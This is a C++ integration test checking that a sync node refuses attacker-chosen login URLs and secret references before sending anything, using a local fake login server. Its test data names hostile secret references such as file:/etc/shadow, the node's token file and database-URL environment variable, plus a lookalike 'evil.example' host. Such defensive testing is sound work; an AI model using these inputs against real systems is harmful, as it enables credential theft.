// The attack a held-out check made: an admin token holder runs
// `connection:create` / `sf:auth` with a login URL of their own and a secret
// reference naming the node's database URL, /etc/shadow or the node's token
// file. The node must refuse every one before resolving or sending anything:
// the fake login server receives no request at all, nothing is stored, and no
// secret shows in what the CLI prints. A connection row written straight into
// the control schema (bypassing the admin API) meets the same wall in the engine.

#include "tests/integration/sync_read/sync_read_fixture.hpp"
#include "tests/support/node.hpp"

#include <httplib.h>

#include <thread>

using namespace syncforce;
using namespace syncforce::testing;

namespace {

const std::string token = "sec-t0ken-8c1e55d2a9";
/// The database password of the node (trust authentication ignores it): the
/// secret an attacker asks for with env:SYNCFORCE_DATABASE_URL.
const std::string db_secret_marker = "Db-Pa55-marker-77q";

/// A login server of the attacker's: counts and keeps whatever reaches it.
class fake_login_server {
public:
  fake_login_server() {
    server_.set_logger([this](const httplib::Request& req, const httplib::Response&) {
      std::lock_guard<std::mutex> g(mtx_);
      bodies_.push_back(req.method + " " + req.path + " " + req.body);
    });
    auto answer = [](const httplib::Request&, httplib::Response& res) {
      res.set_content(R"({"error":"invalid_grant","error_description":"nope"})", "application/json");
      res.status = 400;
    };
    server_.Get(".*", answer);
    server_.Post(".*", answer);
    port_ = server_.bind_to_any_port("127.0.0.1");
    thread_ = std::thread([this] { server_.listen_after_bind(); });
    // Bound and listening already; running (so that stop() ends it) in a moment.
    wait_until([this] { return server_.is_running(); }, 5s, 1ms);
  }
  ~fake_login_server() {
    server_.stop();
    thread_.join();
  }
  int port() const { return port_; }
  std::vector<std::string> received() {
    std::lock_guard<std::mutex> g(mtx_);
    return bodies_;
  }

private:
  httplib::Server server_;
  std::thread thread_;
  int port_ = 0;
  std::mutex mtx_;
  std::vector<std::string> bodies_;
};

struct secret_confinement : ::testing::Test {
  void SetUp() override {
    auto url = test_database_url();
    if (!url)
      GTEST_SKIP() << "SYNCFORCE_TEST_DATABASE_URL is not set (scripts/test starts PostgreSQL)";
    db = std::make_unique<scratch_database>(*url, "secret_confinement");
    token_path = write_temp("secret_tokens", "ops:" + token + "\n");
    emu = std::make_unique<sfemu_process>();
    // The node's database URL, with a password that must never leave the node,
    // is also in SYNCFORCE_DATABASE_URL: the variable an attacker names.
    node_db_url = db->url();
    auto at = node_db_url.find('@');
    ASSERT_NE(at, std::string::npos) << node_db_url;
    node_db_url.insert(at, ":" + db_secret_marker);
    node_options o;
    o.database_url = node_db_url;
    o.node_name = "sec-node";
    o.args = {"--admin-token-file", token_path};
    o.env = {{"SYNCFORCE_DATABASE_URL", node_db_url},
             {"SF_TEST_PASSWORD", "sfemu"},
             // Only sfemu's own port may be spoken to over http: not the attacker's on the same host.
             {"SYNCFORCE_INSECURE_LOGIN_HOSTS", "127.0.0.1:" + std::to_string(emu->port())},
             {"SYNCFORCE_TEST_POLL_SECONDS", "1"}};
    node = std::make_unique<node_process>(o);
    ASSERT_TRUE(wait_until([&] { return node->ready(); }, 20s, 100ms)) << node->output();
  }

  void TearDown() override {
    node.reset();
    if (!token_path.empty())
      std::remove(token_path.c_str());
  }

  cli_result cli(const std::vector<std::string>& args) { return node->cli(args, token); }

  long connections() { return count_of(db->url(), "SELECT count(*) FROM syncforce.connections"); }

  std::unique_ptr<scratch_database> db;
  std::unique_ptr<sfemu_process> emu;
  std::unique_ptr<node_process> node;
  std::string token_path;
  std::string node_db_url;
  fake_login_server evil;
};

} // namespace

TEST_F(secret_confinement, connection_create_refuses_foreign_hosts_and_forbidden_references_before_sending) {
  const std::string evil_http = "http://127.0.0.1:" + std::to_string(evil.port());
  const std::string evil_https = "https://127.0.0.1:" + std::to_string(evil.port());
  struct attempt {
    std::string login_url;
    std::string secret_ref;
    std::string says; // part of the refusal
  };
  const std::vector<attempt> attempts{
    {evil_http, "env:SYNCFORCE_DATABASE_URL", "plain http"},
    {evil_http, "file:/etc/shadow", "plain http"},
    {evil_http, "file:" + token_path, "plain http"},
    {evil_https, "env:SF_TEST_PASSWORD", "not a Salesforce login host"},
    {"https://login.salesforce.com.evil.example", "env:SF_TEST_PASSWORD", "not a Salesforce login host"},
    // The allowed host, with references the node must never resolve:
    {emu->base_url(), "env:SYNCFORCE_DATABASE_URL", "node's own credentials"},
    {emu->base_url(), "env:HOME", "starting with"},
    {emu->base_url(), "file:/etc/shadow", "only from files below"},
    {emu->base_url(), "file:" + token_path, "node's own files"},
  };
  for (const auto& a : attempts) {
    auto r = cli({"connection:create", "evil", "--login-url", a.login_url, "--username", "admin@sfemu.local", "--auth",
                  "password", "--secret-ref", a.secret_ref});
    EXPECT_EQ(r.code, 6) << a.login_url << " " << a.secret_ref << "\n" << r.output;
    EXPECT_NE(r.output.find(a.says), std::string::npos) << a.login_url << " " << a.secret_ref << "\n" << r.output;
    EXPECT_EQ(r.output.find(db_secret_marker), std::string::npos) << r.output;
    EXPECT_EQ(r.output.find(token), std::string::npos) << r.output;
  }
  EXPECT_EQ(connections(), 0) << "nothing stored";
  EXPECT_TRUE(evil.received().empty()) << evil.received().front();

  // A legitimate connection still works, and sf:auth meets the same wall.
  auto ok = cli({"connection:create", "it", "--login-url", emu->base_url(), "--username", "admin@sfemu.local", "--auth",
                 "password", "--secret-ref", "env:SF_TEST_PASSWORD"});
  ASSERT_EQ(ok.code, 0) << ok.output << node->output();
  for (const auto& args : std::vector<std::vector<std::string>>{
         {"sf:auth", "--login-url", evil_http},
         {"sf:auth", "--login-url", evil_https},
         {"sf:auth", "--secret-ref", "env:SYNCFORCE_DATABASE_URL"},
         {"sf:auth", "--secret-ref", "file:" + token_path}}) {
    auto r = cli(args);
    EXPECT_EQ(r.code, 6) << args[1] << " " << args[2] << "\n" << r.output;
  }
  EXPECT_EQ(scalar(db->url(), "SELECT login_url || ' ' || secret_ref FROM syncforce.connections").value_or(""),
            emu->base_url() + " env:SF_TEST_PASSWORD")
    << "unchanged";
  EXPECT_TRUE(evil.received().empty()) << evil.received().front();
  const auto log = node->output();
  EXPECT_EQ(log.find(db_secret_marker), std::string::npos) << "the database URL never reaches the log";
  EXPECT_EQ(log.find(token), std::string::npos);
}

TEST_F(secret_confinement, the_engine_refuses_a_connection_row_written_around_the_admin_api) {
  const std::string evil_http = "http://127.0.0.1:" + std::to_string(evil.port());
  {
    pqxx::connection c(db->url());
    pqxx::work tx(c);
    tx.exec_params("INSERT INTO syncforce.connections (name, schema_name, state, login_url, auth_method, username, "
                   "secret_ref, api_version) VALUES ('sneaky', 'sneaky', 'NEW', $1, 'password', 'admin@sfemu.local', "
                   "'env:SYNCFORCE_DATABASE_URL', '60.0')",
                   evil_http);
    tx.exec("NOTIFY syncforce_control");
    tx.commit();
  }
  ASSERT_TRUE(node->process().wait_for_output("login URL refused", 20s)) << node->output();
  EXPECT_TRUE(evil.received().empty()) << evil.received().front();
  EXPECT_EQ(node->output().find(db_secret_marker), std::string::npos);
}
